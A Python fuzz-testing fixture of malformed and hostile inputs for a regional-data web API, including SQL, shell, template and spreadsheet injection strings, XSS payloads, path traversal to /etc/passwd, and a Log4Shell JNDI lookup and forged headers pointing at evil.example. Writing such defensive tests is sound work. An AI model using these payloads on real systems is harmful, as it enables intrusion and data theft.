"""A dictionary of nasty values, by what is nasty about them, and strategies that make more of each kind.

Values are bytes as they stand in a request target, or texts that still have to be encoded.
"""

from urllib.parse import quote, quote_plus

from hypothesis import strategies as st

from app.routers.regions.parameters import RegionQuery

# --- bytes that are no text -------------------------------------------------------------------------------

WORD = "医療"

NOT_UTF8 = {
    "truncated": WORD.encode()[:-1],
    "begins in the middle": WORD.encode()[1:],
    "a lone continuation": b"\x80",
    "overlong NUL": b"\xc0\x80",
    "overlong slash": b"\xe0\x80\xaf",
    "overlong in four bytes": b"\xf0\x82\x82\xac",
    "a high surrogate": b"\xed\xa0\x80",
    "a low surrogate": b"\xed\xbf\xbf",
    "a pair of surrogates, CESU-8": b"\xed\xa1\x82\xed\xb7\x98",
    "beyond Unicode": b"\xf4\x90\x80\x80",
    "five bytes": b"\xf8\x88\x80\x80\x80",
    "FE FF": b"\xfe\xff",
    "Shift_JIS": WORD.encode("shift_jis"),
    "EUC-JP": WORD.encode("euc_jp"),
    "ISO-2022-JP and a byte": WORD.encode("iso2022_jp") + b"\xa4",
    "UTF-16": b"\xff\xfe" + WORD.encode("utf-16-le"),
    "Latin-1": "é".encode("latin-1"),
}
"""None of these may be taken for a text, nor mended silently."""

BROKEN_PERCENT = [b"%", b"%a", b"%zz", b"%%", b"%1g", b"a%", b"%u533B", b"%-1", b"%+1", b"1%", b"%E5%8C%B"]
"""A percent sign without two hexadecimal digits."""


def escaped(raw: bytes) -> bytes:
    """Every byte percent-encoded."""
    return b"".join(b"%%%02x" % byte for byte in raw)


def encodings(text: str) -> list[bytes]:
    """One text in the ways that clients write it; all mean the same (WHATWG URL, section 5)."""
    return [quote(text, safe="").encode(), quote_plus(text, safe="").encode(), escaped(text.encode())]


not_utf8 = st.sampled_from(sorted(NOT_UTF8.values())) | st.binary(min_size=1, max_size=40).filter(
    lambda raw: raw.decode(errors="ignore").encode() != raw
)
broken_percent = st.tuples(
    st.binary(max_size=4).map(escaped), st.sampled_from(BROKEN_PERCENT), st.sampled_from([b"", b"+", b"x", b"."])
).map(b"".join)

# --- numbers ----------------------------------------------------------------------------------------------

HUGE = ["2147483648", "4294967296", "9223372036854775807", "9223372036854775808", "1" + "0" * 30, "9" * 5000]
"""Beyond 31, 32, 63 and 64 bits, and beyond what Python converts."""

NO_INTEGER = [
    *("1_0", "+1", " 1", "1 ", "\t1", "1\n", "1\0", "\u30001", "1.0", "1.", ".5", "1e3", "1E0", "0x10", "0b1", "0o7"),
    *("true", "null", "None", "undefined", "NaN", "nan", "Infinity", "-Infinity", "--1", "-", "-0", "00", "007", "1-"),
    *("\u0661", "\u06f1", "\u0967", "\u0e51", "①", "²", "Ⅰ", "½", "一", "〇", "𝟏", "𝟙", "🄁", "１_０", "１．０"),
    *("\u200b1", "1\u0661", "1\u0966", "\uff11\u06f1", "-1\u0661", "0" * 2000),
    *("1;2", "1/2", "0 OR 1=1", "{{1}}", "[1]", "1)", "'1'", "−1", "1\u0301", "١٠", "1e", "1L", "10n"),
]
"""What a lax parser takes for an integer; full-width digits are one, these are not."""

_NARROW = {wide: wide - 0xFEE0 for wide in (0xFF0D, *range(0xFF10, 0xFF1A))}


def is_integer(text: str) -> bool:
    """The contract's: digits, half or full width, no leading zeros, a minus at the most."""
    narrow = text.translate(_NARROW)
    digits = narrow.removeprefix("-")
    return digits.isascii() and digits.isdigit() and str(int(narrow)) == narrow


no_integer = (
    st.sampled_from(NO_INTEGER)
    | st.text("0123456789０１９+-_.eExX \u3000\u0661²Ⅰ一", min_size=1, max_size=8)
    | st.text(min_size=1, max_size=8)
).filter(lambda text: "," not in text and not is_integer(text))


def wide(text: str) -> str:
    """ASCII in full width."""
    return "".join(chr(ord(character) + 0xFEE0) if "!" <= character <= "~" else character for character in text)


# --- texts ------------------------------------------------------------------------------------------------

CONTROL = ["\0", "a\0b", "\x01", "\x08", "\x1b[31m", "\x7f", "\x85", "\r\nSet-Cookie: a=b", "\n", "\t", "\v", "\x1e"]
BLANK = [" ", "   ", "\u3000", "\u3000 \u3000", "\u00a0", "\u2003", "\u2028", "\u180e", "\u1680", "\t \r\n"]
INVISIBLE = [
    *("\u200b", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u034f", "\u115f", "\u3164", "\ufe0f", "\U000e0100"),
    *("\U000e0041",),
    *("\u202etxt.exe", "\u2066医\u2069", "\u200f医療", "\u061c", "医\u200b療", "医\ufe00療"),
]
DECOMPOSED = ["か゛", "か\u3099", "ｶﾞ", "ハ゜", "は\u309a", "e\u0301", "\u1100\u1161\u11a8", "Å", "Å", "ö\u0323"]
COMPATIBLE = [
    *("Ⅰ", "㈱", "㍻", "㋿", "①", "ﬁ", "㌔", "㎢", "ＬＳＩ", "ﾊﾞｲｵ", "𝐋𝐒𝐈", "ⅷ", "ª", "ſ", "K", "ẞ", "İ", "ΐ", "ǰ"),
]
GROWING = ["\ufdfa", "\ufdfa" * 17, "\u1f82", "\ufb2c" * 30, "㌖" * 50, "ΐ" * 100]
MARKS = ["a" + "\u0301" * 99, "\u0301" * 100, "か" + "\u3099" * 50, "\u0300\u0316" * 49, "Z̸̢͚̈́a͇̽l͔͝g̵̳̈́ò̴͓"]
BEYOND_BMP = [
    *("𠮷", "𩸽", "😀", "👨‍👩‍👧‍👦", "🇯🇵", "\U0010ffff", "\U000f0000", "𝔘", "\ud7ff", "\ufffd", "\uffff", "\ufdd0"),
]
LONG = ["あ" * 100, "あ" * 101, "a" * 100, "a" * 101, "a " * 50, "医療 " * 33, "a" * 3000]
SYNTAX = [
    *(
        "%",
        "_",
        "%%",
        "\\",
        "%医療%",
        "医_療",
        "a%' ESCAPE '\\",
        "*",
        "医*",
        '"医療"',
        "医 AND 療",
        "NEAR(医 療)",
        "-医",
    ),
    *("^医",),
    *("theme:医療", "' OR '1'='1", "'; DROP TABLE regions; --", '" OR 1=1 --', "1) OR (1=1", "$1", ":q_0", "?", "%s"),
    *("%(q_0)s", "pg_sleep(10)", "\\'", "'||'", "/* */", "E'\\x00'", "$$", "{0}", "{q.__class__}", "{{7*7}}", "${7*7}"),
    *("<%= 7*7 %>", "#{7*7}", "{% raw %}", "<script>alert(1)</script>", "</title><b>", '"><img src=x>'),
    *("&amp;", "&#0;"),
    *("javascript:alert(1)", "${jndi:ldap://x/a}", "../../etc/passwd", "..\\..\\", "file:///etc/passwd"),
    *("`id`", "$(id)"),
    *("; ls", "| id", "=1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "()", "[", "(?=a)", "(a+)+$", ".*"),
    *("[[:alpha:]]", "\\d"),
    *("null", "undefined", "true", "__proto__", "constructor", "toString", "nan", "0", "-1", "[]", "{}", '{"$gt":""}'),
]
"""Of SQL, LIKE, MATCH, HTML, template engines, shells, spreadsheets, expressions: all of it is plain text here."""

TEXTS = list(
    dict.fromkeys(
        [*CONTROL, *BLANK, *INVISIBLE, *DECOMPOSED, *COMPATIBLE, *GROWING, *MARKS, *BEYOND_BMP, *LONG, *SYNTAX]
    )
)

texts = (
    st.sampled_from(TEXTS)
    | st.text(min_size=1, max_size=40)
    | st.lists(
        st.sampled_from([*CONTROL, *INVISIBLE, *DECOMPOSED, *COMPATIBLE, *BEYOND_BMP, *SYNTAX, WORD, "バイオ", "a"]),
        min_size=2,
        max_size=5,
    ).map("".join)
)

# --- names, paths, headers --------------------------------------------------------------------------------

_NAMES = [
    *("nope", "Limit", "LIMIT", "limit[]", "limit[0]", "limit.", "limit%20", "%20limit", "limit%00"),
    *("type%5B%5D", "q[]"),
    *("fields%5Bregions%5D", "page", "offset%0A", "__proto__", "constructor", "sort%3B", "%EF%BD%91", "callback", "_"),
    *("%E2%80%8Bq", "q%E2%80%8B", "Q", "lang-", "fiscal-year", "fiscalYear", "prefectures", "select", "%27", "%3Cb%3E"),
]
NAMES = [name for name in _NAMES if name not in RegionQuery.model_fields]
"""As they stand in a target; none of them is a parameter."""

PATHS = [
    *("/v1//regions", "//v1/regions", "/v1/regions//", "/v1/regions/", "/v1/", "/./v1/regions", "/v1/./regions"),
    *("/v1/../v1/regions", "/v1/%2e/regions", "/v1/%2e%2e/v1/regions", "/v1/regions/..%2f7", "/v1/regions/%2e%2e%2f7"),
    *("/V1/regions", "/v1/REGIONS", "/v1/Regions.json", "/v1/regions.JSON", "/v1/regions.xml", "/v1/regions.json.json"),
    *("/v1/regions.csv/", "/v1/regions.", "/v1/.json", "/v1/regions/7.csv", "/v1/regions/7.json/", "/v1/regions/7/8"),
    *("/v1/regions;a=b", "/v1/regions/7;x", "/v1/regions/7%2f8", "/v1\\regions", "/v1/regions%5c7"),
    *("/v1/regions%20", "/v1/regions%0a", "/%0A", "/v1/regions.csv%0a", "/livez%0a", "/v1/regions%00"),
    *("/v1/regions/7%00", "/v1/regions/%00", "/v1/programs/%00", "/%00", "/%0d%0a"),
    *("/v1/subcategories/%00", "/v1/dataset/files/%00/%00", "/problems/%00", "/docs/%00", "/v1/programs/global%00"),
    *("/v1/regions/%FF", "/v1/programs/%C0%80", "/v1/programs/%ED%A0%80", "/v1/programs/%88%E3%97%C3", "/%E5%8C"),
    *("/v1/programs/%zz", "/%", "/v1/programs/%E5%8C%BB%E7%99%82", "/v1/programs/Global", "/v1/programs/GLOBAL"),
    *("/v1/programs/%EF%BD%87lobal", "/v1/programs/' OR 1=1".replace(" ", "%20"), "/v1/programs/*", "/v1/programs/_"),
    *("/docs/..%2f..%2fpyproject.toml", "/docs/%2e%2e%2f%2e%2e%2fetc/passwd", "/explorer/..%2fmain.py"),
    *("/.env", "/.git/HEAD"),
    *("/v1/dataset/files/../regions.json", "/v1/dataset/files/x/regions.json", "/etc/passwd", "/app/main.py", "/admin"),
    *("/v1/dataset/files/x/..%2f..%2fregions.sqlite", "/regions.sqlite", "/wp-login.php", "/openapi.json/", "/livez/"),
    *("/v1/regions/{region_number}", "/v1/regions/%7Bregion_number%7D", "/v1/regions/__class__", "/v1/regions/[7]"),
]
"""Nothing is there: a missing slash, a dot or a letter in upper case is not mended silently."""

BAD_REQUEST_IDS = [
    *(b"", b" ", b"x" * 129, b"a b", b"a\tb", b"<script>", b'"', b"a;b", b"\xe5\x8c\xbb", b"{}", b"%0d%0a"),
    *(b"a,b",),
]

ACCEPT_JUNK = [
    *(b"", b",", b";", b"q", b"/", b"*", b"*/*;q=0.0001", b"text/csv;q=x", b";q=1", b"a/b/c", b"\xff\xfe"),
    *(b'"', b"*/json"),
    *(b"json", b"application/json;;;", b"application/json;q=", b"a" * 8000, b"*/*," * 2000, b"text/csv;q=1e0"),
    *(b"=", b"*/*;q=-1"),
]
ENCODING_JUNK = [
    *(b"", b",", b"gzip;q=", b"gzip;q=2", b"*;q=x", b"GZIP", b"x-gzip", b"g" * 8000, b"\xff", b"deflate"),
    *(b"gzip," * 1500,),
]
LANGUAGE_JUNK = [
    *(b"", b"*", b"x", b"ja_JP", b"-", b"ja;q=", b"j" * 8000, b"\xe6\x97\xa5", b"ja," * 2000, b"en-", b"*;q=0"),
    *(b"zh;q=1",),
]
TAG_JUNK = [
    *(b'"', b'""', b"x", b"W/", b'W/"', b'"a', b"**", b'"*"', b"\xff", b'"a","b",', b"," * 3000, b'"' * 3000),
    *(b"w/*",),
]
DATE_JUNK = [
    *(b"", b"0", b"yesterday", b"Tue, 99 Nov 2026 00:00:00 GMT", b"9" * 3000, b"\xff"),
    *(b"Tue, 24 Nov 9999999 00:00:00 GMT",),
]

FORGED: list[tuple[bytes, bytes]] = [
    (b"x-forwarded-host", b"evil.example"),
    (b"x-forwarded-proto", b"javascript"),
    (b"x-forwarded-prefix", b"/evil.example"),
    (b"x-forwarded-for", b"evil.example, 127.0.0.1"),
    (b"forwarded", b"for=evil.example;host=evil.example;proto=https"),
    (b"x-original-url", b"/evil.example"),
    (b"x-rewrite-url", b"/evil.example"),
    (b"x-http-method-override", b"DELETE"),
    (b"origin", b"https://evil.example"),
    (b"referer", b"https://evil.example/"),
    (b"cookie", b"session=" + b"x" * 4000),
    (b"authorization", b"Basic " + b"e" * 400),
    (b"range", b"bytes=0-0,5-9"),
    (b"if-range", b'"x"'),
    (b"if-match", b'"x"'),
    (b"if-unmodified-since", b"Tue, 24 Nov 1970 00:00:00 GMT"),
    (b"te", b"trailers"),
    (b"prefer", b"return=minimal"),
    (b"traceparent", b"00-" + b"0" * 32 + b"-" + b"0" * 16 + b"-01"),
    (b"traceparent", b"ff-zz-" + b"9" * 3000),
    (b"tracestate", b"=" * 600),
    (b"baggage", b"a=b;c=" + b"%00" * 200),
    (b"user-agent", b"() { :;}; echo \xff"),
    (b"content-type", b"multipart/form-data; boundary="),
    (b"x-request-id", b"${jndi:ldap://evil.example/a}"),
]
"""Headers that change nothing."""
